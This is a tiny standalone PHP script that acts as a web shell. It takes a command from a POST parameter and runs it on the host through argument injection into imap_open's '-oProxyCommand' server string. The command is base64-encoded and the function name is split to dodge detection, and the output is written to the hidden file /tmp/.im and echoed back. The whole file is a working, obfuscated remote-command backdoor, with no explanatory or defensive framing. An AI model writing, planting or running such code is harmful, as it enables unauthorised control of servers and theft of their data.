<?php
$c = base64_encode($_POST['c'] . ' > /tmp/.im 2>&1');
$srv = 'x -oProxyCommand=echo${IFS}' . $c . '|base64${IFS}-d|sh}';
$fn = 'imap' . '_open';
@$fn('{' . $srv . ':143/imap}INBOX', '', '');
echo @file_get_contents('/tmp/.im');
